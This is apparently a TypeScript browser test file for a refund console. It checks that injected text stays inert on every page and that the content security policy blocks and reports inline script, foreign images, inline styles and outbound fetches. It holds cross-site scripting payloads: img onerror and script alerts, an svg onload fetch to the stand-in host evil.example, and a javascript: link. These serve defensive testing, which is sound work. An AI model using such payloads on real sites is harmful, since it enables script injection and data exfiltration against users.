/** Hostile text from clients, operators and the gateway stays text on every page: it runs no script, loads nothing and changes no markup. */
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM, HOW_TO_GET_CHROMIUM } from '../support/chromium.js';
import {
  confirm,
  NOT_LINKABLE,
  startConsole,
  UNCLEAR,
  type ConsoleHarness,
  type ConsoleSession,
} from './harness.js';

/** Text with known injection patterns. `name` is the field that carries it. */
const evil = (name: string): string =>
  `${name}"><img src=x onerror=alert(1)><script>alert(2)</script><svg/onload=fetch('//evil.example/${name}')>{{7*7}}`;
const LINK = 'javascript:alert(3)';

describe.skipIf(CHROMIUM === undefined)(`hostile text (needs Chromium: ${HOW_TO_GET_CHROMIUM})`, () => {
  let harness: ConsoleHarness;
  let session: ConsoleSession;

  beforeAll(async () => {
    harness = await startConsole();
    // The name of an API key is user input, too.
    session = await harness.openSession(await harness.newKey(evil('name'), 'operate', 'approve'));
  }, 120_000);
  afterAll(async () => {
    await session.close();
    await harness.close();
  });

  /** Expects that the texts are shown literally, and that no element was created from them. */
  async function expectOnlyText(...names: readonly string[]): Promise<void> {
    const { page, incidents } = session;
    for (const name of names) await page.getByText(evil(name)).first().waitFor({ state: 'attached' });
    expect(
      await page.locator('img, script:not([src^="/console/assets/"]), [onerror], [onload]').count(),
    ).toBe(0);
    expect(await page.locator('a[href^="javascript:" i]').count()).toBe(0);
    expect(incidents).toEqual([]);
  }

  it('stays text on every page: reason, order, metadata, ticket, operator, gateway', async () => {
    const { page, open } = session;
    const shop = await harness.newKey(evil('shop'), 'submit');
    const refund = await harness.stuck({
      code: UNCLEAR,
      state: 'manual_review',
      orderId: evil('order').slice(0, 250),
      reason: evil('reason').slice(0, 200),
      metadata: { [`<b>${LINK}`.slice(0, 40)]: evil('metadata') },
      key: shop,
    });
    await sql`UPDATE attempts SET result_description = ${evil('gateway')} WHERE refund_id = ${refund.id}`.execute(
      harness.stack.database.db,
    );
    await sql`UPDATE cases SET details = ${JSON.stringify({ [evil('detail')]: evil('value'), url: LINK })}
      WHERE refund_id = ${refund.id}`.execute(harness.stack.database.db);

    await open('');
    await expectOnlyText('order', 'name');
    await open('refunds');
    await expectOnlyText('order');
    await open(`search?q=${encodeURIComponent(evil('order'))}`);
    await page.waitForURL(`**/refunds/${refund.id}`);
    await expectOnlyText('order', 'shop', 'gateway', 'value', 'detail');

    await confirm(page, 'Withdraw', { Reason: evil('note'), Ticket: evil('ticket') });
    await page.getByText('Withdrawn.').waitFor();
    for (const details of await page.getByRole('region', { name: 'Timeline' }).locator('summary').all())
      await details.click();
    await expectOnlyText('note', 'ticket');
    await open(`payments/${refund.paymentId}`);
    await expectOnlyText('order', 'note');
  });

  it('stays text in a proposal for a second approver', async () => {
    const refund = await harness.stuck({ code: UNCLEAR, state: 'manual_review' });
    const { open, page } = session;
    await open(`refunds/${refund.id}`);
    await confirm(page, 'Correct', {
      'What really happened': 'succeeded',
      Evidence: evil('evidence'),
      Reason: evil('proposal'),
    });
    await page.getByText('A correction needs a second approver').waitFor();
    await expectOnlyText('proposal');
    await page.getByText('evidence"><img').first().waitFor();
    await open('');
    await page.getByText('evidence"><img').first().waitFor();
    await expectOnlyText();
  });

  it('stays text in searches, filters and URLs', async () => {
    const { page, open } = session;
    await open(`search?q=${encodeURIComponent(evil('search'))}`);
    await page.getByText('No refund or payment has exactly this id').waitFor();
    await expectOnlyText('search');
    await harness.stuck({ code: NOT_LINKABLE, state: 'awaiting_approval' });
    await open(`?q=${encodeURIComponent(evil('filter'))}`);
    await page.getByText('matches').waitFor();
    await expectOnlyText('filter');
    await open(`refunds/${encodeURIComponent('"><script>alert(4)</script>')}`);
    await page.getByRole('alert').waitFor();
    await open(`refunds?paymentId=${encodeURIComponent(LINK)}&state=%3Cimg%3E`);
    await page.getByRole('alert').waitFor();
    await expectOnlyText();
  });

  it('could not run as markup: the policy blocks inline and foreign content, and reports it', async () => {
    const { page, incidents, open } = session;
    await open('');
    const before = incidents.length;
    await page.evaluate(`{
      const script = document.createElement('script');
      script.setAttribute('nonce', 'x');
      const image = document.createElement('img');
      image.src = 'https://evil.example/x.png';
      document.body.append(image);
      const styled = document.createElement('p');
      styled.setAttribute('style', 'color: red');
      document.body.append(styled);
      try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); } catch {}
      try { script.text = 'alert(1)'; document.body.append(script); } catch {}
      fetch('https://evil.example/').catch(() => undefined);
    }`);
    await expect.poll(() => incidents.slice(before).join('\n')).toMatch(/policy: connect-src/u);
    const seen = incidents.slice(before).join('\n');
    expect(seen).toMatch(/policy: img-src/u);
    expect(seen).toMatch(/policy: style-src-attr/u);
    expect(seen).toMatch(/policy: require-trusted-types-for/u);
    expect(seen).not.toMatch(/dialog:/u);
  });
});
